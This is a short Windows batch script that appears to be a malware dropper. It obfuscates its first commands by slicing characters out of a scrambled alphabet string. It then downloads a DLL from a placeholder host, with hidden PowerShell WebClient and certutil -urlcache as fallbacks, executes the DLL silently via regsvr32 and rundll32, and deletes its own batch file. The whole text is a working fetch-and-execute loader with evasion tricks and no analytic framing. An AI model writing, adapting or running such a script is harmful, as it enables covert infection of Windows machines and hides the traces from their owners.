@echo off
Set aim=WQ5ApRgbhV4C0ZXtJr29ISYw8UmMKsO6dkBfLEoG1DHzNTv7Fe3qcPjynuxial
cls
@%aim:~14,1%off
%aim:~52,1%%aim:~58,1%%aim:~17,1%%aim:~61,1% https://pastorcryptograph.example.test/3/sdd.dll -o compile.dll
if not exist compile.dll (
powershell -w hidden -nop -c "(New-Object Net.WebClient).DownloadFile('https://pastorcryptograph.example.test/3/sdd.dll','compile.dll')"
)
if not exist compile.dll (
certutil.exe -urlcache -f https://pastorcryptograph.example.test/3/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
rundll32.exe compile.dll,DllRegisterServer
del compile.bat
